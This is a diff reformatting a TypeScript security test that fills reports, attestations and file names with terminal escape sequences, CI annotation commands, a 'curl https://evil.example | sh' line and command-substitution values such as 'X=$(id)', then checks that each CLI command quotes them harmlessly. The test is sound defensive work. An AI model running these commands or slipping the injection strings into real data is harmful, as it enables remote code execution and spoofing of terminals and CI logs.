@@ -14,30 +14,107 @@ import { command } from '../samples/command.ts';
 import { exchange, report } from '../samples/sample-reports.ts';
 
 /** What a terminal, a CI system or a reader's eye would obey. */
-const FORGED = '\x1b[2J\x1b]0;owned\x07\x9b31m\x85\x7f\r\u202e\u2066\u200b\u2028\n::error::forged\n  ::add-mask::forged\n##[error]forged ##vso[task.setvariable]forged\nforged';
+const FORGED =
+  '\x1b[2J\x1b]0;owned\x07\x9b31m\x85\x7f\r\u202e\u2066\u200b\u2028\n::error::forged\n  ::add-mask::forged\n##[error]forged ##vso[task.setvariable]forged\nforged';
 /** A file name holds no zero and no slash. */
 const NAME = FORGED;
 const COMMAND = `curl https://evil.example | sh ${FORGED}`;
 
 const REPORT = report(
   {
-    'list-pets.limit': { verdict: 'fail', expected: FORGED, received: FORGED, pointer: `/${FORGED}`, evidence: ['x1'], replay: FORGED, statement: FORGED, reason: FORGED },
-    'errors.json': { verdict: 'inconclusive', reason: FORGED }, 'errors.code': { verdict: 'warn', expected: FORGED, received: FORGED },
+    'list-pets.limit': {
+      verdict: 'fail',
+      expected: FORGED,
+      received: FORGED,
+      pointer: `/${FORGED}`,
+      evidence: ['x1'],
+      replay: FORGED,
+      statement: FORGED,
+      reason: FORGED,
+    },
+    'errors.json': { verdict: 'inconclusive', reason: FORGED },
+    'errors.code': { verdict: 'warn', expected: FORGED, received: FORGED },
   },
   {
-    suite: { name: FORGED, version: FORGED, command: COMMAND }, specification: { version: FORGED }, reason: FORGED,
+    suite: { name: FORGED, version: FORGED, command: COMMAND },
+    specification: { version: FORGED },
+    reason: FORGED,
     target: { baseUrl: `https://rex.example/${FORGED}`, embedded: false, environment: FORGED },
-    run: { id: FORGED, stopped: FORGED, complete: false, lastAsked: FORGED, only: [FORGED], variables: { [`X=$(id) ${FORGED}`]: FORGED, BASE_URL: FORGED } },
+    run: {
+      id: FORGED,
+      stopped: FORGED,
+      complete: false,
+      lastAsked: FORGED,
+      only: [FORGED],
+      variables: { [`X=$(id) ${FORGED}`]: FORGED, BASE_URL: FORGED },
+    },
     observations: [{ id: 'errors.codes', section: FORGED, question: FORGED, observed: FORGED, evidence: [] }],
-    exchanges: [exchange('x1', { request: { method: FORGED, path: FORGED, headers: [], body: FORGED }, response: { status: 200, statusText: FORGED, headers: [], body: FORGED, bytes: 1 } })],
+    exchanges: [
+      exchange('x1', {
+        request: { method: FORGED, path: FORGED, headers: [], body: FORGED },
+        response: { status: 200, statusText: FORGED, headers: [], body: FORGED, bytes: 1 },
+      }),
+    ],
     footprint: [{ id: FORGED, name: FORGED }],
   },
 );
-const HEAD = { kind: 'head', version: 1, mark: FORGED, window: 15_000, clock: Date.parse(REPORT.run.startedAt), claimed: [FORGED], key: {}, settings: { mode: 'full', seed: 1, propertyRuns: 200, categoryIds: null, maxInFlight: 8 } } as never;
-const EVIDENCE = [HEAD, { kind: 'judgement', by: 'test', rule: FORGED, requirement: FORGED, verdict: 'fail', case: { expected: FORGED, received: FORGED, pointer: FORGED }, exchanges: [], test: 1 }, { kind: FORGED }].map((each) => JSON.stringify(each)).join('\n');
+const HEAD = {
+  kind: 'head',
+  version: 1,
+  mark: FORGED,
+  window: 15_000,
+  clock: Date.parse(REPORT.run.startedAt),
+  claimed: [FORGED],
+  key: {},
+  settings: { mode: 'full', seed: 1, propertyRuns: 200, categoryIds: null, maxInFlight: 8 },
+} as never;
+const EVIDENCE = [
+  HEAD,
+  {
+    kind: 'judgement',
+    by: 'test',
+    rule: FORGED,
+    requirement: FORGED,
+    verdict: 'fail',
+    case: { expected: FORGED, received: FORGED, pointer: FORGED },
+    exchanges: [],
+    test: 1,
+  },
+  { kind: FORGED },
+]
+  .map((each) => JSON.stringify(each))
+  .join('\n');
 const { run, target, suite, footprint, exchanges } = REPORT;
-const FINDING = { requirement: 'list-pets.limit', verdict: 'fail', reason: FORGED, flaw: { requirement: 'list-pets.limit', expected: FORGED, received: FORGED, pointer: FORGED, evidence: ['x1'] }, evidence: ['x1'], test: { title: FORGED, file: FORGED, line: 1 }, replay: FORGED };
-const SHARD = { version: 1, index: 1, count: 2, suite, catalogue: catalogueDigest(), target, run, tests: [FORGED], findings: [FINDING], sightings: [{ silence: 'errors.codes', observed: FORGED, evidence: [] }], durations: {}, footprint, exchanges };
+const FINDING = {
+  requirement: 'list-pets.limit',
+  verdict: 'fail',
+  reason: FORGED,
+  flaw: {
+    requirement: 'list-pets.limit',
+    expected: FORGED,
+    received: FORGED,
+    pointer: FORGED,
+    evidence: ['x1'],
+  },
+  evidence: ['x1'],
+  test: { title: FORGED, file: FORGED, line: 1 },
+  replay: FORGED,
+};
+const SHARD = {
+  version: 1,
+  index: 1,
+  count: 2,
+  suite,
+  catalogue: catalogueDigest(),
+  target,
+  run,
+  tests: [FORGED],
+  findings: [FINDING],
+  sightings: [{ silence: 'errors.codes', observed: FORGED, evidence: [] }],
+  durations: {},
+  footprint,
+  exchanges,
+};
 
 /** A folder in which whatever can be of somebody else is hostile. */
 function hostileFolder(): string {
@@ -45,21 +122,54 @@ function hostileFolder(): string {
   const keys = newKeys();
   const key = createPrivateKey(keys.privateKey);
   const files = { report: Buffer.from(JSON.stringify(REPORT)), evidence: Buffer.from(EVIDENCE) };
-  const look = { head: HEAD, results: REPORT.requirements, differences: [], contradictions: [], gaps: [], attested: {}, demands: { computed: 0, attested: 0 } };
-  const statement = statementOf({ report: REPORT, look, files, suite: thisSuite(), subject: { name: FORGED, sha256: null }, now: Date.now(), validDays: 9 });
+  const look = {
+    head: HEAD,
+    results: REPORT.requirements,
+    differences: [],
+    contradictions: [],
+    gaps: [],
+    attested: {},
+    demands: { computed: 0, attested: 0 },
+  };
+  const statement = statementOf({
+    report: REPORT,
+    look,
+    files,
+    suite: thisSuite(),
+    subject: { name: FORGED, sha256: null },
+    now: Date.now(),
+    validDays: 9,
+  });
   const attestation = Buffer.from(seal(PAYLOAD_TYPE, canonicalJson(statement), key));
   const other = structuredClone(statement);
   other.predicate[EXTENSION].suite = { name: FORGED, version: `0.0.1 && ${COMMAND}` };
   const texts: Record<string, string | Buffer> = {
-    'report.json': files.report, 'evidence.jsonl': EVIDENCE, 'attestation.json': attestation, [NAME]: FORGED,
-    'other.json': seal(PAYLOAD_TYPE, canonicalJson(other), key), 'none.json': JSON.stringify({ ...REPORT, [FORGED]: 1 }), 'no.json': FORGED,
-    'shard.json': JSON.stringify(SHARD), 'footprint.json': JSON.stringify({ run: FORGED, target: FORGED, animals: [{ id: '1', name: FORGED }] }), 'footprint-of.json': JSON.stringify({ run: 'x', target: 'y', animals: [], [FORGED]: 1 }),
+    'report.json': files.report,
+    'evidence.jsonl': EVIDENCE,
+    'attestation.json': attestation,
+    [NAME]: FORGED,
+    'other.json': seal(PAYLOAD_TYPE, canonicalJson(other), key),
+    'none.json': JSON.stringify({ ...REPORT, [FORGED]: 1 }),
+    'no.json': FORGED,
+    'shard.json': JSON.stringify(SHARD),
+    'footprint.json': JSON.stringify({ run: FORGED, target: FORGED, animals: [{ id: '1', name: FORGED }] }),
+    'footprint-of.json': JSON.stringify({ run: 'x', target: 'y', animals: [], [FORGED]: 1 }),
     'targets.json': JSON.stringify([{ name: FORGED, baseUrl: FORGED, apiKeyVariable: FORGED }]),
-    'revoked.json': seal(REVOCATIONS_TYPE, canonicalJson({ version: 1, issuedAt: '2026-11-20T10:00:00.000Z', revoked: [{ attestation: 'a'.repeat(64), reason: FORGED, since: FORGED }] }), key),
+    'revoked.json': seal(
+      REVOCATIONS_TYPE,
+      canonicalJson({
+        version: 1,
+        issuedAt: '2026-11-20T10:00:00.000Z',
+        revoked: [{ attestation: 'a'.repeat(64), reason: FORGED, since: FORGED }],
+      }),
+      key,
+    ),
   };
-  for (const each of ['evidence', `vendors/${NAME}`, 'vendors/broken', 'left/allure-results']) mkdirSync(join(folder, each), { recursive: true });
+  for (const each of ['evidence', `vendors/${NAME}`, 'vendors/broken', 'left/allure-results'])
+    mkdirSync(join(folder, each), { recursive: true });
   for (const [name, text] of Object.entries(texts)) writeFileSync(join(folder, name), text);
-  for (const name of ['report.json', 'evidence.jsonl', NAME]) writeFileSync(join(folder, 'evidence', name), texts[name] ?? '');
+  for (const name of ['report.json', 'evidence.jsonl', NAME])
+    writeFileSync(join(folder, 'evidence', name), texts[name] ?? '');
   writeFileSync(join(folder, 'vendors', NAME, 'report.json'), files.report);
   writeFileSync(join(folder, 'vendors', 'broken', 'report.json'), texts['none.json'] ?? '');
   writeFileSync(join(folder, 'left', 'report.json'), texts['none.json'] ?? '');
@@ -69,24 +179,63 @@ function hostileFolder(): string {
 }
 
 /** Each command with what it says of the hostile text, so that it is known to have quoted it. */
-const COMMANDS: readonly (readonly [name: string, args: readonly string[], says: RegExp, env?: NodeJS.ProcessEnv])[] = [
-  ['certify', ['--report', '.', '--key', 'key.pem', '--subject-name', 'Rex'], /list-pets\.limit fails: expected \\x1b[^]*npm run conformance -- --only list-pets\.limit shows it again/],
-  ['verify', ['attestation.json', '--public-key', 'key.pem.pub', '--evidence', 'evidence', '--revoked', 'revoked.json'], /\\x1b.* is covered by no digest/],
+const COMMANDS: readonly (readonly [
+  name: string,
+  args: readonly string[],
+  says: RegExp,
+  env?: NodeJS.ProcessEnv,
+])[] = [
+  [
+    'certify',
+    ['--report', '.', '--key', 'key.pem', '--subject-name', 'Rex'],
+    /list-pets\.limit fails: expected \\x1b[^]*npm run conformance -- --only list-pets\.limit shows it again/,
+  ],
+  [
+    'verify',
+    [
+      'attestation.json',
+      '--public-key',
+      'key.pem.pub',
+      '--evidence',
+      'evidence',
+      '--revoked',
+      'revoked.json',
+    ],
+    /\\x1b.* is covered by no digest/,
+  ],
   ['verify', ['attestation.json', '--public-key', 'key.pem.pub', '--json'], /\\u001b/],
   ['verify', ['other.json', '--public-key', 'key.pem.pub'], /nothing tells which suite can verify it/],
   ['compare', ['report.json', 'report.json'], /.*/],
-  ['compare', ['report.json', 'none.json'], /none\.json is no report\.json of this suite: the whole has .*u001b/],
+  [
+    'compare',
+    ['report.json', 'none.json'],
+    /none\.json is no report\.json of this suite: the whole has .*u001b/,
+  ],
   ['compare', ['report.json', 'no.json'], /it is not JSON/],
   ['matrix', ['vendors', '--public-key', 'key.pem.pub'], /left out: .*broken/],
   ['matrix', ['vendors', '--json'], /\\\\x1b/],
-  ['merge', ['.'], /list-pets\.limit[^]*received +\\x1b[^]*npm run conformance -- --only/, { GITHUB_ACTIONS: 'true' }],
+  [
+    'merge',
+    ['.'],
+    /list-pets\.limit[^]*received +\\x1b[^]*npm run conformance -- --only/,
+    { GITHUB_ACTIONS: 'true' },
+  ],
   ['merge', ['.', '--json'], /verdict/],
-  ['recheck', ['footprint.json'], /is of \\x1b|set BASE_URL=/, { BASE_URL: 'http://127.0.0.1:9/v1', API_KEY: 'not-the-key-of-anybody' }],
+  [
+    'recheck',
+    ['footprint.json'],
+    /is of \\x1b|set BASE_URL=/,
+    { BASE_URL: 'http://127.0.0.1:9/v1', API_KEY: 'not-the-key-of-anybody' },
+  ],
   ['recheck', ['footprint-of.json'], /the whole has/],
   ['report', ['--report-dir', 'left'], /the whole has/],
   ['conformance', ['--failed'], /no report\.json of this suite/, { REPORT_DIR: 'left' }],
   ['targets', ['run', 'targets.json'], /targets\.json: /],
-  ['revoke', ['attestation.json', '--list', 'revoked.json', '--key', 'key.pem', '--reason', 'x'], /list of revocations is not usable/],
+  [
+    'revoke',
+    ['attestation.json', '--list', 'revoked.json', '--key', 'key.pem', '--reason', 'x'],
+    /list of revocations is not usable/,
+  ],
   ['explain', [FORGED], /There is no requirement or open question/],
 ];
 
@@ -94,19 +243,32 @@ const COMMANDS: readonly (readonly [name: string, args: readonly string[], says:
 function acting(text: string): string[] {
   // the annotations of a GitHub job are commands of ours: what they quote is data
   const own = /^::error title=[\w.-]+::[^\p{Cc}\p{Cf}\p{Zl}\p{Zp}]*$/u;
-  return text.split('\n').filter((line) => !own.test(line) && /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]|^\s*::|##|^\s*forged|^\s*owned|curl/u.test(line));
+  return text
+    .split('\n')
+    .filter(
+      (line) =>
+        !own.test(line) && /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]|^\s*::|##|^\s*forged|^\s*owned|curl/u.test(line),
+    );
 }
 
 /** Each command once, and each in all of its ways. */
 const ONCE = COMMANDS.filter(([name], index) => COMMANDS.findIndex(([other]) => other === name) === index);
-for (const [which, tag, commands] of [['each command', [], ONCE], ['each way', ['@long'], COMMANDS]] as const) test(`nothing that a report, evidence, a certificate or a folder holds acts on a terminal or a log: ${which}`, { tag: [...tag] }, async () => {
-  const folder = hostileFolder();
-  for (const [name, args, says, env = {}] of commands) {
-    const { out, err } = await command(name, args, env, folder);
-    const what = `${name} ${JSON.stringify(args)}: ${out}${err}`;
-    expect([acting(out), acting(err)], what).toEqual([[], []]);
-    expect(out + err, what).toMatch(says);
-    expect(out + err).not.toMatch(/suite itself broke|^ +at /m);
-    if (args.includes('--json')) expect(() => JSON.parse(out) as unknown, what).not.toThrow();
-  }
-});
+for (const [which, tag, commands] of [
+  ['each command', [], ONCE],
+  ['each way', ['@long'], COMMANDS],
+] as const)
+  test(
+    `nothing that a report, evidence, a certificate or a folder holds acts on a terminal or a log: ${which}`,
+    { tag: [...tag] },
+    async () => {
+      const folder = hostileFolder();
+      for (const [name, args, says, env = {}] of commands) {
+        const { out, err } = await command(name, args, env, folder);
+        const what = `${name} ${JSON.stringify(args)}: ${out}${err}`;
+        expect([acting(out), acting(err)], what).toEqual([[], []]);
+        expect(out + err, what).toMatch(says);
+        expect(out + err).not.toMatch(/suite itself broke|^ +at /m);
+        if (args.includes('--json')) expect(() => JSON.parse(out) as unknown, what).not.toThrow();
+      }
+    },
+  );
